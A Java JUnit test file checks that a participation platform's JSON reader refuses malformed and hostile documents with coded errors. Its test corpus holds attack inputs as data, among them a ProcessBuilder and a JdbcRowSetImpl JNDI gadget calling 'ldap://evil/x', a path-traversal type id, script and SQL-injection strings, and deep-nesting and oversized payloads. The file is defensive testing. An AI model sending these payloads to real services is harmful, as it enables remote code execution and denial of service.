package nl.participatie.core.json;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import nl.participatie.core.RecordedEvent;
import nl.participatie.core.sample.PetitionCommand;
import nl.participatie.core.sample.PetitionEvent;

/**
 * Untrusted JSON: every malformed or hostile document gives the library's {@link JsonReadException} with a code
 * and a path, within a second; never a stack overflow, an out-of-memory, a raw NullPointerException or a class
 * loaded by name.
 */
class HostileJsonTest {

    private static final ParticipatieJson JSON = ParticipatieJson.defaults();

    private static final String RECORD = "{\"actor\":{\"person\":\"anna\",\"role\":\"RESIDENT\"},"
            + "\"event\":{\"@type\":\"sample.drafted.v2\",\"title\":\"Bankjes\"},\"hash\":\"ab\",\"previousHash\":\"cd\","
            + "\"recordedAt\":\"2026-01-05T09:00:00Z\",\"sequence\":1,\"step\":\"DRAFT\",\"stream\":\"sample.petition/p\"}";

    record Hostile(String name, Class<?> target, byte[] document, String code) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Hostile doc(String name, Class<?> target, String document, String code) {
        return new Hostile(name, target, document.getBytes(StandardCharsets.UTF_8), code);
    }

    static Stream<Arguments> corpus() {
        List<Hostile> all = new ArrayList<>();
        all.add(doc("empty document", PetitionCommand.class, "", "json.wrong-type"));
        all.add(doc("only white space", PetitionCommand.class, "   \n ", "json.wrong-type"));
        all.add(doc("literal null", PetitionCommand.class, "null", "json.empty"));
        all.add(doc("truncated object", PetitionCommand.class, "{", "json.syntax"));
        all.add(doc("truncated command", PetitionCommand.class, "{\"@type\":\"sample.draft.v1\",\"title\":\"x\"", "json.syntax"));
        all.add(doc("truncated string", PetitionCommand.class, "{\"@type\":\"sample.draft.v1\",\"title\":\"x", "json.syntax"));
        all.add(doc("truncated recorded event", RecordedEvent.class, RECORD.substring(0, RECORD.length() / 2), "json.syntax"));
        all.add(doc("100k-deep arrays", Object.class, "[".repeat(100_000) + "]".repeat(100_000), "json.limit"));
        all.add(doc("100k-deep objects", Object.class, "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000), "json.limit"));
        all.add(doc("deep nesting inside a field", PetitionCommand.class,
                "{\"@type\":\"sample.draft.v1\",\"title\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}", "json.wrong-type"));
        all.add(doc("50 MB string", PetitionCommand.class,
                "{\"@type\":\"sample.draft.v1\",\"title\":\"" + "x".repeat(50_000_000) + "\"}", "json.limit"));
        all.add(doc("string over the string limit", PetitionCommand.class,
                "{\"@type\":\"sample.draft.v1\",\"title\":\"" + "x".repeat(ParticipatieJson.MAX_STRING_LENGTH + 1) + "\"}", "json.limit"));
        all.add(doc("1000-digit number", RecordedEvent.class, RECORD.replace("\"sequence\":1", "\"sequence\":" + "9".repeat(1000)), "json.limit"));
        all.add(doc("unknown type id", PetitionCommand.class, "{\"@type\":\"sample.nope.v1\"}", "json.unknown-type"));
        all.add(doc("JDK class name as type id", PetitionCommand.class,
                "{\"@type\":\"java.lang.ProcessBuilder\",\"command\":[\"touch\",\"/tmp/pwned\"]}", "json.unknown-type"));
        all.add(doc("JNDI gadget as type id", PetitionCommand.class,
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil/x\",\"autoCommit\":true}", "json.unknown-type"));
        all.add(doc("class name as event type in a record", RecordedEvent.class,
                RECORD.replace("sample.drafted.v2", "java.net.URL"), "json.unknown-type"));
        all.add(doc("default-typing array form", PetitionCommand.class, "[\"java.util.HashMap\",{}]", "json.unknown-type"));
        all.add(doc("path as type id", PetitionCommand.class, "{\"@type\":\"../../etc/passwd\"}", "json.unknown-type"));
        all.add(doc("command type id read as event", PetitionEvent.class, "{\"@type\":\"sample.draft.v1\",\"title\":\"x\"}", "json.unknown-type"));
        all.add(doc("missing type id", PetitionCommand.class, "{\"title\":\"x\"}", "json.missing-type"));
        all.add(doc("number where text is required", PetitionCommand.class, "{\"@type\":\"sample.draft.v1\",\"title\":123}", "json.wrong-type"));
        all.add(doc("text where boolean is required", PetitionCommand.class,
                "{\"@type\":\"sample.decide.v1\",\"granted\":\"yes\",\"reason\":\"r\"}", "json.wrong-type"));
        all.add(doc("object where text is required", PetitionCommand.class, "{\"@type\":\"sample.draft.v1\",\"title\":{}}", "json.wrong-type"));
        all.add(doc("array where object is required", RecordedEvent.class, "[1,2,3]", "json.wrong-type"));
        all.add(doc("invalid person id", PetitionCommand.class, "{\"@type\":\"sample.support.v1\",\"supporter\":\"<script>\"}", "personId.invalid"));
        all.add(doc("null where a value is required", PetitionEvent.class, "{\"@type\":\"sample.opened.v1\",\"closesAt\":null}", "value.required"));
        all.add(doc("missing required value", PetitionEvent.class, "{\"@type\":\"sample.supported.v1\",\"count\":1}", "value.required"));
        all.add(doc("null event in a record", RecordedEvent.class, RECORD.replace("{\"@type\":\"sample.drafted.v2\",\"title\":\"Bankjes\"}", "null"), "json.wrong-type"));
        all.add(doc("null sequence in a record", RecordedEvent.class, RECORD.replace("\"sequence\":1", "\"sequence\":null"), "json.wrong-type"));
        all.add(doc("text sequence in a record", RecordedEvent.class, RECORD.replace("\"sequence\":1", "\"sequence\":\"one\""), "json.wrong-type"));
        all.add(doc("fraction as sequence in a record", RecordedEvent.class, RECORD.replace("\"sequence\":1", "\"sequence\":1.5"), "json.wrong-type"));
        all.add(doc("object as step in a record", RecordedEvent.class, RECORD.replace("\"DRAFT\"", "{}"), "json.wrong-type"));
        all.add(doc("number as hash in a record", RecordedEvent.class, RECORD.replace("\"ab\"", "12"), "json.wrong-type"));
        all.add(doc("malformed time", RecordedEvent.class, RECORD.replace("2026-01-05T09:00:00Z", "yesterday"), "json.wrong-type"));
        all.add(doc("malformed stream id", RecordedEvent.class, RECORD.replace("sample.petition/p", "no slash"), "streamId.invalid"));
        all.add(doc("invalid role", RecordedEvent.class, RECORD.replace("RESIDENT", "resident; drop table"), "role.invalid"));
        all.add(doc("unknown property", PetitionCommand.class, "{\"@type\":\"sample.draft.v1\",\"title\":\"x\",\"admin\":true}", "json.unknown-property"));
        all.add(doc("duplicate property", RecordedEvent.class, RECORD.replace("\"step\":\"DRAFT\"", "\"step\":\"DRAFT\",\"step\":\"OPEN\""), "json.wrong-type"));
        all.add(doc("trailing garbage", PetitionCommand.class, "{\"@type\":\"sample.expire.v1\"} {\"@type\":\"sample.expire.v1\"}", "json.wrong-type"));
        all.add(doc("NaN literal", RecordedEvent.class, RECORD.replace("\"sequence\":1", "\"sequence\":NaN"), "json.syntax"));
        all.add(doc("comment", PetitionCommand.class, "/* hi */ {\"@type\":\"sample.expire.v1\"}", "json.syntax"));
        all.add(doc("single quotes", PetitionCommand.class, "{'@type':'sample.expire.v1'}", "json.syntax"));
        all.add(doc("raw control character in a string", PetitionCommand.class, "{\"@type\":\"sample.draft.v1\",\"title\":\"a\u0001b\"}", "json.syntax"));
        all.add(new Hostile("invalid UTF-8", PetitionCommand.class,
                new byte[] {'{', '"', '@', 't', 'y', 'p', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}, "json.syntax"));
        return all.stream().map(Arguments::of);
    }

    @org.junit.jupiter.api.BeforeAll
    static void warmUp() {
        // The time limit is about the reader, not about loading classes on a busy machine.
        for (int i = 0; i < 200; i++) {
            JSON.read("{\"@type\":\"sample.draft.v1\",\"title\":\"x\"}", PetitionCommand.class);
            try {
                JSON.read("{\"@type\":\"sample.nope.v1\"}", PetitionCommand.class);
            } catch (JsonReadException expected) {
                // warming the error path too
            }
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void everyHostileDocumentGivesAClearErrorWithinASecond(Hostile hostile) {
        assertTimeoutPreemptively(Duration.ofSeconds(1), () ->
                assertThatThrownBy(() -> JSON.read(hostile.document(), hostile.target()))
                        .isInstanceOf(JsonReadException.class)
                        .satisfies(e -> {
                            JsonReadException error = (JsonReadException) e;
                            assertThat(error.code()).as(error.getMessage()).isEqualTo(hostile.code());
                            assertThat(error.path()).startsWith("$");
                            assertThat(error.text().nl()).isNotBlank();
                            assertThat(error.text().en()).isNotBlank();
                        }));
    }

    /** A record with a number, as a method's command has (RecordMeasurement's value). */
    record Measured(java.math.BigDecimal value) {
    }

    @ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {"1e2147483647", "-1E+2147483647", "1e-2147483647", "1e400",
        "1e-400", "0e-2147483647", "0e2147483647", "1e100", "1e-101"})
    void aNumberWithAnAbsurdExponentIsRefusedByTheReaderWithCodeAndPath(String number) {
        assertThat(JSON.read("{\"value\":9.99e99}", Measured.class).value()).isEqualByComparingTo("9.99e99");
        assertThat(JSON.read("{\"value\":-123456789012.123456}", Measured.class).value()).isEqualByComparingTo("-123456789012.123456");
        assertThatThrownBy(() -> JSON.read("{\"value\":" + number + "}", Measured.class))
                .isInstanceOfSatisfying(JsonReadException.class, e -> {
                    assertThat(e.code()).isEqualTo("number.out-of-range");
                    assertThat(e.path()).isEqualTo("$.value");
                    assertThat(e.text().nl()).contains("100");
                    assertThat(e.text().en()).contains("100");
                });
        assertThatThrownBy(() -> JSON.read("[1, " + number + "]", java.math.BigDecimal[].class))
                .isInstanceOfSatisfying(JsonReadException.class, e -> {
                    assertThat(e.code()).isEqualTo("number.out-of-range");
                    assertThat(e.path()).isEqualTo("$[1]");
                });
    }

    @Test
    void theCorpusHasAtLeastThirtyDocuments() {
        assertThat(corpus().count()).isGreaterThanOrEqualTo(30);
    }

    @Test
    void anInvalidValueDeepInADocumentIsReportedWithItsPath() {
        assertThatThrownBy(() -> JSON.read(RECORD.replace("\"person\":\"anna\"", "\"person\":\"an na\""), RecordedEvent.class))
                .isInstanceOfSatisfying(JsonReadException.class, e -> {
                    assertThat(e.code()).isEqualTo("personId.invalid");
                    assertThat(e.path()).isEqualTo("$.person");
                });
    }

    @Test
    void theStringReaderRefusesA50MegabyteDocumentBeforeParsing() {
        String huge = "\"" + "x".repeat(50_000_000) + "\"";
        assertThatThrownBy(() -> JSON.read(huge, String.class)).isInstanceOfSatisfying(JsonReadException.class,
                e -> assertThat(e.code()).isEqualTo("json.limit"));
    }

    @Test
    void anOldVersionOfAnEventIsUpcastWhenRead() {
        Object event = JSON.fromJson("sample.drafted.v1", "{\"name\":\"Oude titel\"}");
        assertThat(event).isEqualTo(new PetitionEvent.Drafted("Oude titel"));
    }
}
